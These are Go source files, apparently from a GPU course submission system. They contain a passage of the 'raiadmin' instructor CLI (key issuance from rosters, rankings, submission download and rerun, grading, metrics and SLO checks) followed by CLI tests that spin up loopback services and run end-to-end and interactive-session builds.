	cfg, err := slo.ParseConfig(data)
	if err != nil {
		return nil, err
	}
	var opts []slo.Option
	if len(cfg.Rules) > 0 {
		opts = append(opts, slo.WithRules(cfg.Rules))
	}
	return slo.NewEngine(cfg.Objectives, opts...), nil
}

// evalOnce scrapes every URL, folds the successful snapshots into one
// observation, and evaluates. Endpoints that fail are reported on
// stderr; an all-endpoints-down round is an error, never a false green.
func evalOnce(name, sloPath string, urls []string, stderr io.Writer) ([]slo.ObjectiveStatus, error) {
	engine, err := newSLOEngine(sloPath)
	if err != nil {
		return nil, err
	}
	var snaps []*telemetry.Snapshot
	for _, u := range urls {
		snap, err := scrapeMetrics(u)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin %s: %s: %v\n", name, u, err)
			continue
		}
		snaps = append(snaps, snap)
	}
	if len(snaps) == 0 {
		return nil, fmt.Errorf("no metrics endpoint could be scraped")
	}
	engine.Observe(snaps...)
	return engine.Evaluate(), nil
}

// health evaluates the deployment's SLOs from one scrape round.
func health(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin health", flag.ContinueOnError)
	fs.SetOutput(stderr)
	sloPath := fs.String("slo", "", "SLO config JSON (empty = the built-in objectives)")
	asJSON := fs.Bool("json", false, "emit the full per-objective evaluation as JSON")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() == 0 {
		fmt.Fprintln(stderr, "usage: raiadmin health [-slo config.json] [-json] URL [URL...]")
		return 2
	}
	statuses, err := evalOnce("health", *sloPath, fs.Args(), stderr)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin health: %v\n", err)
		return 1
	}
	if *asJSON {
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(statuses); err != nil {
			fmt.Fprintf(stderr, "raiadmin health: %v\n", err)
			return 1
		}
	} else {
		fmt.Fprint(stdout, slo.Format(statuses))
	}
	if !slo.Healthy(statuses) {
		return 1
	}
	return 0
}

// alerts prints only the firing burn-rate rules — empty output and exit
// 0 is the healthy steady state a cron job wants.
func alerts(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin alerts", flag.ContinueOnError)
	fs.SetOutput(stderr)
	sloPath := fs.String("slo", "", "SLO config JSON (empty = the built-in objectives)")
	asJSON := fs.Bool("json", false, "emit firing rules as JSON")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if fs.NArg() == 0 {
		fmt.Fprintln(stderr, "usage: raiadmin alerts [-slo config.json] [-json] URL [URL...]")
		return 2
	}
	statuses, err := evalOnce("alerts", *sloPath, fs.Args(), stderr)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin alerts: %v\n", err)
		return 1
	}
	type firing struct {
		Objective string  `json:"objective"`
		Rule      string  `json:"rule"`
		LongBurn  float64 `json:"long_burn"`
		ShortBurn float64 `json:"short_burn"`
		Threshold float64 `json:"threshold"`
	}
	var out []firing
	for _, st := range statuses {
		for _, rs := range st.Rules {
			if rs.Firing {
				out = append(out, firing{
					Objective: st.Name, Rule: rs.Rule.Name,
					LongBurn: rs.LongBurn, ShortBurn: rs.ShortBurn, Threshold: rs.Rule.Burn,
				})
			}
		}
	}
	if *asJSON {
		if out == nil {
			out = []firing{}
		}
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(out); err != nil {
			fmt.Fprintf(stderr, "raiadmin alerts: %v\n", err)
			return 1
		}
	} else {
		for _, f := range out {
			fmt.Fprintf(stdout, "%s %s burn long=%.1f short=%.1f threshold=%.1f\n",
				f.Objective, f.Rule, f.LongBurn, f.ShortBurn, f.Threshold)
		}
	}
	if len(out) > 0 {
		return 1
	}
	return 0
}
