// Command raiadmin bundles the instructor utilities of the paper's §VI:
// generating and delivering authorization keys from the class roster,
// inspecting the competition ranking, downloading student final
// submissions, rerunning them for grading, and producing grade reports.
//
// Usage:
//
//	raiadmin keygen  -roster roster.csv -out keys.json [-outbox dir] [-domain illinois.edu]
//	raiadmin teamgen -teams teams.csv -out keys.json
//	raiadmin ranking -db url [-hist] [-top 30]
//	raiadmin download -db url -fs url -out dir [-cleanup]
//	raiadmin rerun   -db url -fs url -broker addr -keys keys.json -team NAME [-n 5]
//	raiadmin grade   -db url [-manual manual.csv] [-target-accuracy 0.9]
//	raiadmin top     [-filter prefix] [-buckets] [-json] URL [URL...]
//	raiadmin collect -broker addr -db url [-metrics-addr addr] [-retain 24h]
//	                 [-tail-linger 2s] [-tail-keep 0.1] [-tail-slow-quantile 0.99]
//	                 [-slo config.json] [-slo-scrape url,url] [-slo-interval 15s]
//	                 [-ready-file path]
//	raiadmin health  [-slo config.json] [-json] URL [URL...]
//	raiadmin alerts  [-slo config.json] [-json] URL [URL...]
//	raiadmin trace   [-db url] JOB_ID
//	raiadmin trace   -exemplar slowest -metrics url [-metric prefix] [-db url]
//	raiadmin logs    [-db url] [-follow] JOB_ID
//	raiadmin version
package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"rai/internal/clock"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"rai/internal/auth"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/grading"
	"rai/internal/objstore"
	"rai/internal/ranking"
	"rai/internal/stats"
	"rai/internal/telemetry"
	"rai/internal/vfs"
)

// version is stamped by the CI pipeline; kept in lockstep with cmd/rai.
const version = "0.2.0-dev"

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	if len(args) < 1 {
		fmt.Fprintln(stderr, "usage: raiadmin keygen|teamgen|ranking|download|rerun|grade|top|collect|health|alerts|trace|logs|version [flags]")
		return 2
	}
	switch args[0] {
	case "version", "-version", "--version":
		fmt.Fprintln(stdout, telemetry.NewStamp("raiadmin", version))
		return 0
	case "keygen":
		return keygen(args[1:], stdout, stderr)
	case "teamgen":
		return teamgen(args[1:], stdout, stderr)
	case "ranking":
		return showRanking(args[1:], stdout, stderr)
	case "download":
		return download(args[1:], stdout, stderr)
	case "rerun":
		return rerun(args[1:], stdout, stderr)
	case "grade":
		return grade(args[1:], stdout, stderr)
	case "top":
		return top(args[1:], stdout, stderr)
	case "collect":
		return collect(args[1:], stdout, stderr)
	case "health":
		return health(args[1:], stdout, stderr)
	case "alerts":
		return alerts(args[1:], stdout, stderr)
	case "trace":
		return traceCmd(args[1:], stdout, stderr)
	case "logs":
		return logsCmd(args[1:], stdout, stderr)
	default:
		fmt.Fprintf(stderr, "raiadmin: unknown command %q\n", args[0])
		return 2
	}
}

// keygen implements §VI "Sending Authorization Keys": roster CSV in,
// keys.json plus one templated email per student out.
func keygen(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin keygen", flag.ContinueOnError)
	fs.SetOutput(stderr)
	rosterPath := fs.String("roster", "", "class roster CSV: firstname,lastname,userid")
	outPath := fs.String("out", "keys.json", "credentials output file")
	outboxDir := fs.String("outbox", "", "directory receiving rendered emails (optional)")
	domain := fs.String("domain", "illinois.edu", "email domain")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *rosterPath == "" {
		fmt.Fprintln(stderr, "raiadmin keygen: -roster is required")
		return 2
	}
	rosterData, err := os.ReadFile(*rosterPath)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
		return 1
	}
	roster, err := auth.ParseRoster(rosterData)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
		return 1
	}
	reg := auth.NewRegistry()
	outbox := &auth.Outbox{}
	mailer := &auth.KeyMailer{Registry: reg, Outbox: outbox, Domain: *domain}
	issued, err := mailer.Run(roster)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
		return 1
	}
	var creds []auth.Credentials
	for _, c := range issued {
		creds = append(creds, c)
	}
	sort.Slice(creds, func(i, j int) bool { return creds[i].UserName < creds[j].UserName })
	blob, err := json.MarshalIndent(creds, "", "  ")
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
		return 1
	}
	if err := os.WriteFile(*outPath, blob, 0o600); err != nil {
		fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
		return 1
	}
	if *outboxDir != "" {
		if err := os.MkdirAll(*outboxDir, 0o755); err != nil {
			fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
			return 1
		}
		for _, m := range outbox.Messages() {
			name := strings.ReplaceAll(m.To, "@", "_at_") + ".eml"
			content := fmt.Sprintf("To: %s\nSubject: %s\n\n%s", m.To, m.Subject, m.Body)
			if err := os.WriteFile(filepath.Join(*outboxDir, name), []byte(content), 0o600); err != nil {
				fmt.Fprintf(stderr, "raiadmin keygen: %v\n", err)
				return 1
			}
		}
	}
	fmt.Fprintf(stdout, "issued %d credentials -> %s", len(issued), *outPath)
	if *outboxDir != "" {
		fmt.Fprintf(stdout, "; %d emails -> %s", len(outbox.Messages()), *outboxDir)
	}
	fmt.Fprintln(stdout)
	return 0
}

// teamgen issues shared credentials per team from a "team,member1;member2"
// CSV — the project is done in teams of 2–4 (§I) sharing one identity.
func teamgen(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin teamgen", flag.ContinueOnError)
	fs.SetOutput(stderr)
	teamsPath := fs.String("teams", "", "teams CSV: teamname,member1;member2;...")
	outPath := fs.String("out", "keys.json", "credentials output file")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *teamsPath == "" {
		fmt.Fprintln(stderr, "raiadmin teamgen: -teams is required")
		return 2
	}
	data, err := os.ReadFile(*teamsPath)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin teamgen: %v\n", err)
		return 1
	}
	r := csv.NewReader(strings.NewReader(string(data)))
	r.FieldsPerRecord = 2
	rows, err := r.ReadAll()
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin teamgen: %v\n", err)
		return 1
	}
	var teams []auth.Team
	for i, row := range rows {
		if i == 0 && strings.EqualFold(row[0], "team") {
			continue
		}
		teams = append(teams, auth.Team{
			Name:    strings.TrimSpace(row[0]),
			Members: strings.Split(strings.TrimSpace(row[1]), ";"),
		})
	}
	reg := auth.NewRegistry()
	issued, err := auth.IssueTeams(reg, teams)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin teamgen: %v\n", err)
		return 1
	}
	var creds []auth.Credentials
	for _, c := range issued {
		creds = append(creds, c)
	}
	sort.Slice(creds, func(i, j int) bool { return creds[i].UserName < creds[j].UserName })
	blob, err := json.MarshalIndent(creds, "", "  ")
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin teamgen: %v\n", err)
		return 1
	}
	if err := os.WriteFile(*outPath, blob, 0o600); err != nil {
		fmt.Fprintf(stderr, "raiadmin teamgen: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "issued %d team credentials -> %s\n", len(creds), *outPath)
	return 0
}

// showRanking prints the instructor leaderboard, optionally with the
// Figure 2 histogram.
func showRanking(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin ranking", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	hist := fs.Bool("hist", false, "print the runtime histogram (Figure 2)")
	top := fs.Int("top", 30, "histogram team count")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	lb := &ranking.Leaderboard{DB: docstore.NewClient(*dbURL)}
	entries, err := lb.View("")
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin ranking: %v\n", err)
		return 1
	}
	fmt.Fprint(stdout, ranking.Format(entries))
	if *hist {
		bins, err := lb.Histogram(*top, 0.1)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin ranking: %v\n", err)
			return 1
		}
		fmt.Fprintln(stdout)
		fmt.Fprint(stdout, ranking.FormatHistogram(bins))
	}
	return 0
}

// download fetches every final submission to a local directory (§VI).
func download(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin download", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	fsURL := fs.String("fs", "http://127.0.0.1:7401", "file server URL")
	outDir := fs.String("out", "submissions", "output directory")
	cleanup := fs.Bool("cleanup", false, "delete build intermediates and datasets")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	dl := &grading.Downloader{
		DB:      docstore.NewClient(*dbURL),
		Objects: objstore.NewClient(*fsURL),
		Cleanup: *cleanup,
	}
	// Ctrl-C aborts the sweep between objects instead of leaving the
	// process wedged on a dead file server.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	mem := vfs.New()
	teams, err := dl.DownloadAll(ctx, mem, "/")
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin download: %v\n", err)
		return 1
	}
	// Materialize to disk.
	err = mem.Walk("/", func(p string, fi vfs.FileInfo) error {
		if p == "/" {
			return nil
		}
		hostPath := filepath.Join(*outDir, filepath.FromSlash(strings.TrimPrefix(p, "/")))
		if fi.Dir {
			return os.MkdirAll(hostPath, 0o755)
		}
		data, err := mem.ReadFile(p)
		if err != nil {
			return err
		}
		if err := os.MkdirAll(filepath.Dir(hostPath), 0o755); err != nil {
			return err
		}
		return os.WriteFile(hostPath, data, 0o644)
	})
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin download: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "downloaded %d final submissions to %s\n", len(teams), *outDir)
	return 0
}

// rerun resubmits a team's recorded final archive n times and prints the
// minimum observed runtime (§VI "rerun the students' submissions
// multiple times and display the minimum time").
func rerun(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin rerun", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	fsURL := fs.String("fs", "http://127.0.0.1:7401", "file server URL")
	brokerAddr := fs.String("broker", "127.0.0.1:7400", "broker address")
	keysPath := fs.String("keys", "keys.json", "credentials file")
	team := fs.String("team", "", "team to rerun")
	n := fs.Int("n", 5, "rerun count")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *team == "" {
		fmt.Fprintln(stderr, "raiadmin rerun: -team is required")
		return 2
	}
	keysData, err := os.ReadFile(*keysPath)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: %v\n", err)
		return 1
	}
	var creds []auth.Credentials
	if err := json.Unmarshal(keysData, &creds); err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: %v\n", err)
		return 1
	}
	var teamCreds auth.Credentials
	for _, c := range creds {
		if c.UserName == *team {
			teamCreds = c
		}
	}
	if teamCreds.UserName == "" {
		fmt.Fprintf(stderr, "raiadmin rerun: team %q not in %s\n", *team, *keysPath)
		return 1
	}
	db := docstore.NewClient(*dbURL)
	row, err := db.FindOne(core.CollRankings, docstore.M{"team": *team})
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: no final submission for %s: %v\n", *team, err)
		return 1
	}
	jobID, _ := row["job_id"].(string)
	job, err := db.FindOne(core.CollJobs, docstore.M{"job_id": jobID})
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: %v\n", err)
		return 1
	}
	queue, err := core.NewRemoteQueue(context.Background(), *brokerAddr)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: %v\n", err)
		return 1
	}
	defer queue.Close()
	client := &core.Client{
		Creds: teamCreds, Queue: queue,
		Objects: objstore.NewClient(*fsURL),
		Stdout:  io.Discard,
		LogWait: 30 * time.Minute,
	}
	bucket, _ := job["upload_bucket"].(string)
	key, _ := job["upload_key"].(string)
	if bucket == "" {
		bucket = core.BucketUploads
	}
	// Ctrl-C stops waiting on the current rerun's log stream.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	res, err := grading.RerunMin(*team, *n, func(string) (time.Duration, float64, error) {
		r, err := client.ResubmitContext(ctx, core.KindSubmit, bucket, key)
		if err != nil {
			return 0, 0, err
		}
		return r.InternalTimer, r.Accuracy, nil
	})
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin rerun: %v\n", err)
		return 1
	}
	fmt.Fprintf(stdout, "team %s: best %.3fs over %d runs (accuracy %.4f, %d failures)\n",
		*team, res.Best.Seconds(), len(res.Runs), res.Accuracy, res.Failures)
	return 0
}

// grade combines automated rerun timings (from the ranking table) with
// manual scores and prints per-team grade reports (§VII).
func grade(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin grade", flag.ContinueOnError)
	fs.SetOutput(stderr)
	dbURL := fs.String("db", "http://127.0.0.1:7402", "database URL")
	manualPath := fs.String("manual", "", "CSV of team,code_quality,report scores")
	target := fs.Float64("target-accuracy", 0.9, "required accuracy")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	db := docstore.NewClient(*dbURL)
	rows, err := db.Find(core.CollRankings, docstore.M{}, docstore.FindOpts{Sort: []string{"runtime_s"}})
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin grade: %v\n", err)
		return 1
	}
	var reruns []*grading.RerunResult
	for _, r := range rows {
		team, _ := r["team"].(string)
		rt, _ := r["runtime_s"].(float64)
		acc, _ := r["accuracy"].(float64)
		reruns = append(reruns, &grading.RerunResult{
			Team: team, Best: time.Duration(rt * float64(time.Second)),
			Accuracy: acc, Runs: []time.Duration{time.Duration(rt * float64(time.Second))},
		})
	}
	manual := map[string]grading.ManualScores{}
	if *manualPath != "" {
		m, err := loadManual(*manualPath)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin grade: %v\n", err)
			return 1
		}
		manual = m
	}
	grader := &grading.Grader{TargetAccuracy: *target}
	grades, err := grader.GradeClass(reruns, manual)
	if err != nil {
		fmt.Fprintf(stderr, "raiadmin grade: %v\n", err)
		return 1
	}
	for _, g := range grades {
		fmt.Fprintln(stdout, grading.FormatReport(g))
	}
	return 0
}

// top scrapes one or more /metrics endpoints (raibroker, raifs, raidb,
// raiworker daemons started with -metrics-addr) and renders the
// operator's snapshot of the deployment: every sample in one aligned
// table, endpoint by endpoint. Histogram buckets are folded away unless
// -buckets is set; _sum/_count stay visible so rates and means can be
// read off directly.
func top(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("raiadmin top", flag.ContinueOnError)
	fs.SetOutput(stderr)
	filter := fs.String("filter", "", "only show metric names with this prefix")
	buckets := fs.Bool("buckets", false, "include per-bucket histogram series")
	asJSON := fs.Bool("json", false, "emit machine-readable JSON instead of the aligned table")
	if err := fs.Parse(args); err != nil {
		return 2
	}
	urls := fs.Args()
	if len(urls) == 0 {
		fmt.Fprintln(stderr, "raiadmin top: at least one metrics URL is required")
		return 2
	}
	// topEndpoint is the per-URL scrape in the -json output; one element
	// per URL, in argument order, so scripts can zip results to requests.
	type topSample struct {
		Name   string            `json:"name"`
		Labels map[string]string `json:"labels,omitempty"`
		Value  float64           `json:"value"`
	}
	type topEndpoint struct {
		Endpoint      string      `json:"endpoint"`
		UptimeSeconds float64     `json:"uptime_seconds,omitempty"`
		Samples       []topSample `json:"samples"`
	}
	var report []topEndpoint
	tbl := &stats.Table{Header: []string{"endpoint", "metric", "labels", "value"}}
	for _, u := range urls {
		snap, err := scrapeMetrics(u)
		if err != nil {
			fmt.Fprintf(stderr, "raiadmin top: %s: %v\n", u, err)
			return 1
		}
		short := strings.TrimPrefix(strings.TrimPrefix(u, "http://"), "https://")
		short = strings.TrimSuffix(short, "/metrics")
		ep := topEndpoint{Endpoint: short, Samples: []topSample{}}
		// Derive uptime from rai_process_start_time_seconds (published
		// by every daemon next to rai_build_info).
		if start, ok := snap.Value("rai_process_start_time_seconds"); ok && start > 0 {
			up := clock.Real{}.Now().Sub(time.Unix(0, int64(start*float64(time.Second)))).Round(time.Second)
			ep.UptimeSeconds = up.Seconds()
			if *filter == "" || strings.HasPrefix("uptime", *filter) {
				tbl.AddRow(short, "uptime", "-", up.String())
			}
		}
		for _, s := range snap.Samples {
			if *filter != "" && !strings.HasPrefix(s.Name, *filter) {
				continue
			}
			if !*buckets && strings.HasSuffix(s.Name, "_bucket") {
				continue
			}
			ep.Samples = append(ep.Samples, topSample{Name: s.Name, Labels: s.Labels, Value: s.Value})
			tbl.AddRow(short, s.Name, formatLabels(s.Labels), strconv.FormatFloat(s.Value, 'g', -1, 64))
		}
		report = append(report, ep)
	}
	if *asJSON {
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(report); err != nil {
			fmt.Fprintf(stderr, "raiadmin top: %v\n", err)
			return 1
		}
		return 0
	}
	fmt.Fprint(stdout, tbl.String())
	return 0
}

// scrapeMetrics fetches and parses one Prometheus text endpoint.
func scrapeMetrics(url string) (*telemetry.Snapshot, error) {
	resp, err := http.Get(url)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("status %s", resp.Status)
	}
	return telemetry.ParseText(resp.Body)
}

// formatLabels renders a label set in sorted key order.
func formatLabels(labels map[string]string) string {
	if len(labels) == 0 {
		return "-"
	}
	keys := make([]string, 0, len(labels))
	for k := range labels {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	parts := make([]string, 0, len(keys))
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s=%s", k, labels[k]))
	}
	return strings.Join(parts, ",")
}

// loadManual parses "team,code_quality,report" CSV rows.
func loadManual(path string) (map[string]grading.ManualScores, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	r := csv.NewReader(strings.NewReader(string(data)))
	r.FieldsPerRecord = 3
	rows, err := r.ReadAll()
	if err != nil {
		return nil, err
	}
	out := map[string]grading.ManualScores{}
	for i, row := range rows {
		if i == 0 && strings.EqualFold(row[0], "team") {
			continue
		}
		cq, err1 := strconv.ParseFloat(strings.TrimSpace(row[1]), 64)
		rp, err2 := strconv.ParseFloat(strings.TrimSpace(row[2]), 64)
		if err1 != nil || err2 != nil {
			return nil, fmt.Errorf("manual scores row %d: bad numbers", i+1)
		}
		out[strings.TrimSpace(row[0])] = grading.ManualScores{CodeQuality: cq, Report: rp}
	}
	return out, nil
}
