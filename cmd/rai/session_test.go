package main

import (
	"bytes"
	"context"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/vfs"
)

// sessionServices is like services() but with a session-enabled worker.
func sessionServices(t *testing.T) (brokerAddr, fsURL string, creds auth.Credentials) {
	t.Helper()
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { brokerSrv.Close(); b.Close() })
	store := objstore.New()
	fsLn, _ := net.Listen("tcp", "127.0.0.1:0")
	fsSrv := &http.Server{Handler: objstore.Handler(store, nil)}
	go fsSrv.Serve(fsLn)
	t.Cleanup(func() { fsSrv.Close() })

	reg := auth.NewRegistry()
	creds, err = reg.Issue("session-team")
	if err != nil {
		t.Fatal(err)
	}
	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, _ := nw.SaveModel()
	dataFS.WriteFile("/data/model.hdf5", model)
	ds, _ := cnn.SynthesizeDataset(nw, 9, 10)
	blob, _ := ds.Encode()
	dataFS.WriteFile("/data/test10.hdf5", blob)

	queue, err := core.NewRemoteQueue(context.Background(), brokerSrv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { queue.Close() })
	w := &core.Worker{
		Cfg: core.WorkerConfig{
			ID: "session-worker", MaxConcurrent: 1, RateLimit: time.Nanosecond,
			AllowSessions: true, SessionIdleTimeout: time.Minute,
		},
		Queue:    queue,
		Objects:  objstore.NewClient("http://" + fsLn.Addr().String()),
		DB:       docstore.New(),
		Auth:     reg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
	}
	go w.RunContext(context.Background())
	t.Cleanup(w.Stop)
	return brokerSrv.Addr(), "http://" + fsLn.Addr().String(), creds
}

func TestRaiSessionCLI(t *testing.T) {
	brokerAddr, fsURL, creds := sessionServices(t)
	dir := writeProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "session-team"})

	stdin := strings.NewReader("cmake /src\nmake\n./ece408 /data/test10.hdf5 /data/model.hdf5\nexit\n")
	var out, errb bytes.Buffer
	code := session(context.Background(), creds, dir, brokerAddr, fsURL, time.Minute, rpcConfig{}, 1, stdin, &out, &errb)
	if code != 0 {
		t.Fatalf("session exited %d\nstdout: %s\nstderr: %s", code, out.String(), errb.String())
	}
	for _, want := range []string{
		"interactive session open",
		"Built target ece408",
		"Correctness: 1.0000",
		"session build output:",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("output missing %q:\n%s", want, out.String())
		}
	}
}

func TestRaiSessionCLICommandFailureShowsExit(t *testing.T) {
	brokerAddr, fsURL, creds := sessionServices(t)
	dir := writeProject(t, project.Spec{Impl: cnn.ImplIm2col, Team: "session-team"})
	stdin := strings.NewReader("cat /missing/file\nexit\n")
	var out, errb bytes.Buffer
	if code := session(context.Background(), creds, dir, brokerAddr, fsURL, time.Minute, rpcConfig{}, 1, stdin, &out, &errb); code != 0 {
		t.Fatalf("session exited %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "(exit 1)") {
		t.Errorf("missing exit marker:\n%s", out.String())
	}
}
