package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"rai/internal/auth"
	"rai/internal/broker"
	"rai/internal/brokerd"
	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/docstore"
	"rai/internal/objstore"
	"rai/internal/project"
	"rai/internal/registry"
	"rai/internal/vfs"
)

// services starts a loopback broker/fs/db plus a worker and returns the
// endpoints and team credentials.
func services(t *testing.T) (brokerAddr, fsURL, dbURL string, creds auth.Credentials) {
	t.Helper()
	b := broker.New()
	brokerSrv, err := brokerd.NewServer(b, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { brokerSrv.Close(); b.Close() })

	store := objstore.New()
	fsLn, _ := net.Listen("tcp", "127.0.0.1:0")
	fsSrv := &http.Server{Handler: objstore.Handler(store, nil)}
	go fsSrv.Serve(fsLn)
	t.Cleanup(func() { fsSrv.Close() })

	db := docstore.New()
	dbLn, _ := net.Listen("tcp", "127.0.0.1:0")
	dbSrv := &http.Server{Handler: docstore.Handler(db, nil)}
	go dbSrv.Serve(dbLn)
	t.Cleanup(func() { dbSrv.Close() })

	reg := auth.NewRegistry()
	creds, err = reg.Issue("cli-team")
	if err != nil {
		t.Fatal(err)
	}

	dataFS := vfs.New()
	nw := cnn.NewNetwork(408)
	model, _ := nw.SaveModel()
	dataFS.WriteFile("/data/model.hdf5", model)
	ds, _ := cnn.SynthesizeDataset(nw, 409, 10)
	blob, _ := ds.Encode()
	dataFS.WriteFile("/data/test10.hdf5", blob)
	full, _ := cnn.SynthesizeDataset(nw, 410, 15)
	blob, _ = full.Encode()
	dataFS.WriteFile("/data/testfull.hdf5", blob)

	queue, err := core.NewRemoteQueue(context.Background(), brokerSrv.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { queue.Close() })
	w := &core.Worker{
		Cfg:      core.WorkerConfig{ID: "test-worker", MaxConcurrent: 2, RateLimit: time.Nanosecond},
		Queue:    queue,
		Objects:  objstore.NewClient("http://" + fsLn.Addr().String()),
		DB:       docstore.NewClient("http://" + dbLn.Addr().String()),
		Auth:     reg,
		Images:   registry.NewCourseRegistry(),
		DataFS:   dataFS,
		DataPath: "/data",
	}
	go w.RunContext(context.Background())
	t.Cleanup(w.Stop)

	return brokerSrv.Addr(), "http://" + fsLn.Addr().String(), "http://" + dbLn.Addr().String(), creds
}

// writeProject materializes a student project on disk.
func writeProject(t *testing.T, spec project.Spec) string {
	t.Helper()
	dir := t.TempDir()
	for rel, content := range project.Files(spec) {
		p := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func writeProfile(t *testing.T, creds auth.Credentials) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), ".rai.profile")
	if err := os.WriteFile(p, []byte(auth.FormatProfile(creds)), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestRaiVersion(t *testing.T) {
	var out, errb bytes.Buffer
	if code := run([]string{"version"}, &out, &errb); code != 0 {
		t.Fatalf("exit %d: %s", code, errb.String())
	}
	if !strings.Contains(out.String(), "rai 0.2.0-dev") {
		t.Errorf("version output = %q", out.String())
	}
}

func TestRaiRunEndToEnd(t *testing.T) {
	brokerAddr, fsURL, dbURL, creds := services(t)
	dir := writeProject(t, project.Spec{Impl: cnn.ImplIm2col, Tuning: 1, Team: "cli-team"})
	profile := writeProfile(t, creds)

	var out, errb bytes.Buffer
	code := run([]string{
		"-p", dir, "-profile", profile,
		"-broker", brokerAddr, "-fs", fsURL, "-db", dbURL,
		"-timeout", "60s",
		"run",
	}, &out, &errb)
	if code != 0 {
		t.Fatalf("rai run exited %d\nstdout: %s\nstderr: %s", code, out.String(), errb.String())
	}
	for _, want := range []string{"Building project", "Correctness: 1.0000", "succeeded", "build output:"} {
